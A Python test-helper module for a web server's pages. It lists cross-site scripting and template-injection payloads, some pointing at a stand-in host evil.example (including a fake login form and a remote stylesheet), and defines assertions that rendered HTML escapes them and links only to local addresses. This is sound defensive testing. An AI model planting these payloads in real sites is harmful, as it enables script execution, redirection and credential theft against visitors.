"""What a page may hold, whatever stands in the database; and addresses of all pages there are."""

import itertools
import re
from collections.abc import Mapping

from elluminate_server.pages.visits import PAGES, Page

__all__ = ["HOSTILE", "address_of", "check_harmless", "pages_of"]

HOSTILE = (
    "<script>alert(1)</script>",
    "</textarea><script>alert(2)</script>",
    '"><img src=x onerror=alert(3)>',
    "' autofocus onfocus='alert(4)",
    '" hx-get="https://evil.example/" hx-trigger="load',
    "<svg onload=alert(5)><animate onbegin=alert(6)>",
    "</title><base href=https://evil.example/>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<a href=javascript:alert(7)>x</a>",
    "<iframe srcdoc='<script>alert(8)</script>'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<!--<script>",
    "]]><script>alert(9)</script>",
    "{{ 7 * 7 }}{% raw %}",
    "{{config}}",
    "&lt;script&gt;alert(10)&lt;/script&gt;",
    "<form action=https://evil.example><button>Log in</button></form>",
    "a\u202eb\u2066c",
    "\x1b[31mred\x7f",
    "<link rel=stylesheet href=//evil.example>",
    "`${alert(11)}`",
    "\u2028<script>alert(12)</script>\u2029",
)
"""Texts that would do harm where they are not escaped."""

_TAG = re.compile(r"<([a-z][a-z0-9]*)((?:\s[^<>]*?)?)/?>")
_HANDLER = re.compile(r"\s(?:on[a-z]+|style|srcdoc|hx-on[^=]*)\s*=")
_UNSHOWN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def check_harmless(html: str) -> None:
    """Nothing that runs, or leads elsewhere; headings in order; labels on what is filled in."""
    # What is quoted may hold anything but its quotes, and is no attribute.
    bare = re.sub(r'="[^"]*"|=\'[^\']*\'', "=_", html)
    for name, attributes in _TAG.findall(bare):
        assert not _HANDLER.search(attributes), (name, attributes)
        assert not re.search(r"=(?!_)", attributes), (name, attributes)
        assert name not in {"style", "base", "iframe", "object", "embed"}, name
    for script in re.findall(r"<script[^>]*>", html):
        assert 'src="/static/' in script, script
    assert html.count("<script") == html.count("</script>")
    for address in re.findall(r'\s(?:href|src|action|formaction|hx-get)="([^"]*)"', html):
        assert address.startswith(("/", "#")), address
        assert not address.startswith("//"), address
    assert _UNSHOWN.search(html) is None
    levels = [int(level) for level in re.findall(r"<h([1-6])[ >]", html)]
    assert levels.count(1) == 1
    assert levels[0] == 1
    assert all(after <= before + 1 for before, after in itertools.pairwise(levels)), levels
    _check_labels(html)
    _check_tables(html)
    for post in re.findall(r'<form method="post".*?</form>', html, re.DOTALL):
        assert 'name="token"' in post or 'action="/login"' in post


def _check_labels(html: str) -> None:
    inside = "".join(re.findall(r"<label>.*?</label>", html, re.DOTALL))
    named = set(re.findall(r'<label for="([^"]+)"', html))
    for tag in re.findall(r"<(?:input|select|textarea)\b[^>]*>", html):
        if 'type="hidden"' in tag or "aria-label" in tag or tag in inside:
            continue
        identifier = re.search(r'\sid="([^"]+)"', tag)
        assert identifier is not None and identifier[1] in named, tag


def _check_tables(html: str) -> None:
    for table in re.findall(r"<table>.*?</table>", html, re.DOTALL):
        assert "<thead>" in table
        assert re.search(r"<th(?! scope=)[\s>]", table) is None, table


def pages_of(method: str) -> list[Page]:
    """All pages, or all forms."""
    import elluminate_server.pages.dispatching as dispatching

    dispatching.dispatcher()
    unique = {one.path: one for one in PAGES if one.method == method}
    return list(unique.values())


_ASKED = {"compare": "?ids={experiment_id}&ids={other_experiment_id}", "label": "?experiment={experiment_id}"}
"""By the end of a path: without that, these pages are about nothing."""


def address_of(one: Page, ids: Mapping[str, int]) -> str:
    """Its path with these ids in it, and what it has to be asked with."""
    path = re.sub(r"\{(\w+):int\}", lambda found: str(ids[found[1]]), one.path)
    return path + _ASKED.get(one.path.rpartition("/")[2], "").format(**ids)
